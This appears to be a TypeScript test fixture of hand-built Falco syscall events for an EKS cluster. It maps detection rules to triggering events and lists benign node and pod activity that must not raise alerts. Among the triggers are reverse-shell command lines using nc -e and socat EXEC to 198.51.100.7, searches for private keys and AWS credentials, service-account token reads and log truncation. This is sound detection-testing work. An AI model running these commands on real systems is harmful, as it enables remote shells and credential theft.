import type { Event } from "../../falco/evaluate";

/** Events of system calls in the fields of Falco, written by hand after its documentation: nothing here can record them on a node. */

const inPod = (namespace: string, pod: string, container: string): Event => ({
  "evt.num": 1,
  "evt.rawtime": "1795000000000000000",
  "container.id": "3ad7b26ded6d",
  "container.name": container,
  "container.privileged": false,
  "k8s.ns.name": namespace,
  "k8s.pod.name": pod,
  "user.uid": 10001,
  "user.name": "app",
  "proc.tty": 0,
  "proc.vpid": 1,
  "proc.is_exe_upper_layer": false,
  "proc.is_exe_from_memfd": false,
});

const api = inPod("patient-records", "patient-api-7d9f", "patient-api");
const database = inPod("patient-records", "database-0", "database");
const onNode: Event = {
  "evt.num": 1,
  "container.id": "host",
  "user.uid": 0,
  "user.name": "root",
  "proc.tty": 0,
  "proc.is_exe_from_memfd": false,
};

const started = (name: string, cmdline = name, more: Event = {}): Event => ({
  "evt.type": "execve",
  "proc.name": name,
  "proc.exepath": `/usr/bin/${name}`,
  "proc.cmdline": cmdline,
  "proc.args": cmdline.split(" ").slice(1).join(" "),
  "proc.pname": "app",
  "proc.vpid": 42,
  "proc.ppid": 4711,
  ...more,
});
const read = (file: string, name: string): Event => ({
  "evt.type": "openat",
  "evt.is_open_read": true,
  "evt.is_open_write": false,
  "evt.arg.flags": "O_RDONLY",
  "fd.typechar": "f",
  "fd.num": 5,
  "fd.name": file,
  "fd.filename": file.split("/").at(-1) ?? "",
  "proc.name": name,
  "proc.vpid": 42,
});
const written = (file: string, name: string): Event => ({
  ...read(file, name),
  "evt.is_open_read": false,
  "evt.is_open_write": true,
  "evt.arg.flags": "O_WRONLY|O_CREAT",
});
const connected = (address: string, port: number, name: string, more: Event = {}): Event => ({
  "evt.type": "connect",
  "fd.typechar": 4,
  "fd.sip": address,
  "fd.rip": address,
  "fd.snet": address,
  "fd.sport": port,
  "proc.name": name,
  ...more,
});
const byRuntime = { "proc.pname": "containerd-shim" };

/** Rule -> events each of which raises it and nothing else, by what happens. */
export const raising: Readonly<Record<string, Readonly<Record<string, Event>>>> = {
  "Monitor exec command": {
    "kubectl exec with a terminal": { ...api, ...started("bash", "bash", byRuntime), "proc.tty": 34816 },
    "kubectl exec without a terminal": { ...api, ...started("cat", "cat /tmp/x", byRuntime) },
    "the command of a probe, with a terminal": { ...database, ...started("pg_isready", "pg_isready", byRuntime), "proc.tty": 34816 },
    "exec in a pod of the node's own": { ...inPod("kube-system", "aws-node-x", "aws-node"), ...started("sh", "sh", byRuntime) },
  },
  "Shell with a terminal in container": {
    "a shell from a shell": { ...api, ...started("sh", "sh", { "proc.pname": "bash" }), "proc.tty": 34816 },
  },
  "Record store read around the store": {
    "cat on a table's file": { ...database, ...read("/var/lib/postgresql/data/base/16384/16385", "cat") },
    "tar of everything": { ...database, ...read("/var/lib/postgresql/data/PG_VERSION", "tar") },
  },
  "Record store asked by hand": {
    "psql from a shell": { ...database, ...started("psql", "psql records", { "proc.pname": "bash" }) },
    "a dump": { ...database, ...started("pg_dump", "pg_dump records", { "proc.pname": "sh" }) },
  },
  "Critical file changed in container": {
    "a new user": { ...api, ...written("/etc/passwd", "sh") },
    "a replaced library": { ...api, ...written("/usr/lib/libssl.so.3", "cp") },
  },
  "Critical file changed on node": {
    "a key of the administrator": { ...onNode, ...written("/root/.ssh/authorized_keys", "bash") },
    "a replaced program": { ...onNode, ...written("/usr/bin/containerd", "curl") },
  },
  "Critical file removed or renamed": {
    "a program away": { ...api, "evt.type": "unlinkat", "evt.arg.name": "/usr/bin/app", "proc.name": "rm" },
    "a configuration swapped": { ...api, "evt.type": "renameat", "evt.arg.newpath": "/etc/app.conf", "proc.name": "mv" },
  },
  "Shell configuration changed": {
    "a line in .bashrc": { ...api, ...written("/home/app/.bashrc", "sh") },
  },
  "Log emptied": {
    "the journal of a node's login": { ...onNode, ...written("/var/log/secure", "bash"), "evt.arg.flags": "O_WRONLY|O_TRUNC" },
  },
  "Program run from memory": {
    "from memfd": { ...api, ...started("x"), "proc.is_exe_from_memfd": true, "proc.exepath": "memfd:x" },
    "from shared memory": { ...api, ...started("x"), "proc.exepath": "/dev/shm/x" },
  },
  "Standard stream tied to the network": {
    "a reverse shell": { ...api, "evt.type": "dup2", "evt.rawres": 0, "fd.typechar": 4, "proc.name": "sh" },
  },
  "Remote code by netcat": {
    "nc -e": { ...api, ...started("nc", "nc 198.51.100.7 443 -e /bin/sh") },
    "socat EXEC": { ...api, ...started("socat", "socat TCP:198.51.100.7:443 EXEC:/bin/sh") },
  },
  "Miner of coins": {
    "by name": { ...api, ...started("xmrig") },
    "by its pool": { ...api, ...started("app", "app -o stratum+tcp://pool:3333") },
  },
  "Server started a shell": {
    "a web server": { ...api, ...started("sh", "sh -c id", { "proc.pname": "node" }) },
  },
  "New program run in container": {
    "one that was downloaded": { ...api, ...started("x", "/tmp/x", { "proc.exepath": "/tmp/x" }), "proc.is_exe_upper_layer": true },
  },
  "File made runnable in container": {
    "chmod +x": { ...api, "evt.type": "fchmodat", "evt.arg.mode": "S_IXUSR|S_IRUSR", "evt.arg.filename": "/tmp/x", "proc.name": "chmod" },
  },
  "Privileged container started": {
    "in a namespace of tenants": { ...api, ...started("app", "app", { ...byRuntime, "proc.vpid": 1 }), "container.privileged": true },
  },
  "Container with folders of its node started": {
    "with the sockets of the node": {
      ...api,
      ...started("app", "app", { ...byRuntime, "proc.vpid": 1 }),
      "container.mount.source[/var/lib/kubelet]": "/var/lib/kubelet:/host:rw",
    },
  },
  "Container runs as root": {
    "in a namespace of tenants": { ...api, ...started("app", "app", { ...byRuntime, "proc.vpid": 1 }), "user.uid": 0 },
  },
  "Process became root": {
    "by a program with the bit": { ...api, "evt.type": "setuid", "evt.arg.uid": 0, "proc.name": "x" },
  },
  "File made to run as its owner": {
    "chmod u+s": { ...api, "evt.type": "fchmodat", "evt.arg.mode": "S_ISUID", "evt.arg.filename": "/tmp/x", "proc.name": "chmod" },
  },
  "Search for credentials": {
    "grep for keys": { ...api, ...started("grep", "grep -r BEGIN RSA PRIVATE KEY /") },
    "find for credentials of AWS": { ...api, ...started("find", "find / -path */.aws/credentials") },
  },
  "Environment of another process read": {
    "of the first process": { ...api, ...read("/proc/1/environ", "cat") },
  },
  "Token of a pod read by a shell tool": {
    "cat on the token": { ...api, ...read("/var/run/secrets/kubernetes.io/serviceaccount/token", "cat") },
    "cat on the one for AWS": { ...api, ...read("/var/run/secrets/pods.eks.amazonaws.com/serviceaccount/eks-pod-identity-token", "cat") },
  },
  "Kubernetes API asked by a workload": {
    "curl to the API": { ...api, ...connected("10.100.0.1", 443, "curl", { "fd.sip.name": "kubernetes.default.svc.cluster.local" }) },
  },
  "Instance metadata asked by a container": {
    "curl to 169.254.169.254": { ...api, ...connected("169.254.169.254", 80, "curl") },
  },
  "Connection to a node port": {
    "a client of one": { ...api, ...connected("10.10.3.7", 31000, "app") },
  },
  "Connection out of the platform": {
    "to anywhere": { ...api, ...connected("198.51.100.7", 443, "app") },
  },
};

const pod = (namespace: string, name: string): Event => inPod(namespace, `${name}-x7`, name);
const root: Event = { "user.uid": 0, "user.name": "root" };
const first = { ...byRuntime, "proc.vpid": 1 };

/** What ordinary nodes and pods of EKS do all day: none of it may raise anything. */
export const ordinary: Readonly<Record<string, Event>> = {
  "the VPC CNI starts": { ...pod("kube-system", "aws-node"), ...root, ...started("aws-vpc-cni", "aws-vpc-cni", first) },
  "the VPC CNI asks the node who it is": { ...pod("kube-system", "aws-node"), ...connected("169.254.169.254", 80, "aws-k8s-agent") },
  "the VPC CNI is probed": {
    ...pod("kube-system", "aws-node"),
    ...root,
    ...started("grpc-health-pro", "/app/grpc-health-probe -addr=:50051", byRuntime),
  },
  "the VPC CNI puts its program on the node": {
    ...pod("kube-system", "aws-node"),
    ...root,
    ...written("/host/opt/cni/bin/aws-cni", "aws-vpc-cni"),
  },
  "kube-proxy runs privileged": {
    ...pod("kube-system", "kube-proxy"),
    ...root,
    ...started("kube-proxy", "kube-proxy", first),
    "container.privileged": true,
  },
  "kube-proxy asks the API": {
    ...pod("kube-system", "kube-proxy"),
    ...connected("10.100.0.1", 443, "kube-proxy", { "fd.sip.name": "kubernetes.default.svc.cluster.local" }),
  },
  "the EBS driver mounts a volume": {
    ...pod("kube-system", "ebs-csi-node"),
    ...root,
    ...started("aws-ebs-csi-driv", "aws-ebs-csi-driver node", first),
    "container.privileged": true,
    "container.mount.source[/var/lib/kubelet]": "/var/lib/kubelet:/var/lib/kubelet:rw",
  },
  "the EBS driver makes a file system": {
    ...pod("kube-system", "ebs-csi-node"),
    ...root,
    ...started("mkfs.ext4", "mkfs.ext4 -F /dev/nvme1n1", { "proc.pname": "aws-ebs-csi-driv" }),
  },
  "CoreDNS starts": { ...pod("kube-system", "coredns"), ...started("coredns", "/coredns -conf /etc/coredns/Corefile", first) },
  "CoreDNS asks the resolver of the VPC": { ...pod("kube-system", "coredns"), ...connected("10.10.0.2", 53, "coredns") },
  "Falco starts": {
    ...pod("falco", "falco"),
    ...root,
    ...started("falco", "/usr/bin/falco", first),
    "container.privileged": true,
    "container.mount.source[/etc]": "/etc:/host/etc:ro",
  },
  "falcosidekick tells of an alert": { ...pod("falco", "falcosidekick"), ...connected("10.10.4.9", 443, "falcosidekick") },
  "the log agent reads logs": { ...pod("log-agent", "log-agent"), ...root, ...read("/var/log/containers/database-0.log", "fluent-bit") },
  "the log agent starts": { ...pod("log-agent", "log-agent"), ...root, ...started("fluent-bit", "fluent-bit", first) },
  "the log agent gets its credentials": { ...pod("log-agent", "log-agent"), ...connected("169.254.170.23", 80, "fluent-bit") },
  "Gatekeeper watches the cluster": {
    ...pod("gatekeeper-system", "gatekeeper"),
    ...connected("10.100.0.1", 443, "manager", { "fd.sip.name": "kubernetes.default.svc.cluster.local" }),
  },
  "istiod watches the cluster": {
    ...pod("istio-system", "istiod"),
    ...connected("10.100.0.1", 443, "pilot-discovery", { "fd.sip.name": "kubernetes.default.svc.cluster.local" }),
  },
  "a sidecar starts its proxy": {
    ...api,
    ...started("envoy", "envoy -c /etc/istio/proxy/envoy-rev.json", { "proc.pname": "pilot-agent", "proc.vpid": 14 }),
  },
  "a sidecar reads the token of its pod": { ...api, ...read("/var/run/secrets/kubernetes.io/serviceaccount/token", "pilot-agent") },
  "a sidecar is probed": { ...api, ...started("pilot-agent", "pilot-agent wait", byRuntime) },
  "a sidecar connects to istiod": { ...api, ...connected("10.10.5.5", 15012, "pilot-agent") },
  "the patient API starts": { ...api, ...started("node", "node server.js", first) },
  "the patient API connects to its database": { ...api, ...connected("10.10.6.6", 5432, "node") },
  "the patient API writes a temporary file": { ...api, ...written("/tmp/upload-1", "node") },
  "PostgreSQL starts": { ...database, ...started("postgres", "postgres -c log_connections=on", first) },
  "PostgreSQL makes its folder": {
    ...database,
    ...started("initdb", "initdb -D /var/lib/postgresql/data", { "proc.pname": "docker-entrypoi", "proc.ppid": 1 }),
  },
  "the entry of PostgreSQL's image waits with a client": {
    ...database,
    ...started("psql", "psql postgres", { "proc.pname": "docker-entrypoi", "proc.ppid": 1 }),
  },
  "PostgreSQL keeps its folder to itself": {
    ...database,
    "evt.type": "fchmodat",
    "evt.arg.mode": "S_IXUSR|S_IWUSR|S_IRUSR",
    "evt.arg.filename": "/var/lib/postgresql/data",
    "proc.name": "postgres",
  },
  "PostgreSQL reads records": { ...database, ...read("/var/lib/postgresql/data/base/16384/16385", "postgres") },
  "PostgreSQL is probed": { ...database, ...started("pg_isready", "pg_isready -q", byRuntime) },
  "PostgreSQL takes a connection": { ...database, "evt.type": "accept4", "fd.typechar": 4, "fd.sport": 5432, "proc.name": "postgres" },
  "the runtime sets up a container": {
    ...api,
    ...started("runc:[2:INIT]", "runc:[2:INIT]", { "proc.pname": "runc", "proc.vpid": 1 }),
    ...root,
  },
  "the kubelet writes certificates": { ...onNode, ...written("/etc/kubernetes/pki/kubelet-client.pem", "kubelet") },
  "the node gets its address again": { ...onNode, ...written("/etc/resolv.conf", "systemd-resolve") },
  "the node rotates logs": { ...onNode, ...written("/var/log/messages", "logrotate"), "evt.arg.flags": "O_WRONLY|O_TRUNC" },
  "the kubelet opens a new log of a container": { ...onNode, ...written("/var/log/pods/x/0.log", "containerd") },
  "containerd starts a container on the node": {
    ...onNode,
    ...started("containerd-shim", "containerd-shim-runc-v2", { "proc.pname": "containerd" }),
  },
  "the metrics server asks kubelets": { ...pod("kube-system", "metrics-server"), ...connected("10.10.3.3", 10250, "metrics-server") },
  "Velero uploads a backup": { ...pod("velero", "velero"), ...connected("10.10.4.4", 443, "velero-plugin-f") },
  "Velero asks the API": {
    ...pod("velero", "velero"),
    ...connected("10.100.0.1", 443, "velero", { "fd.sip.name": "kubernetes.default.svc.cluster.local" }),
  },
};
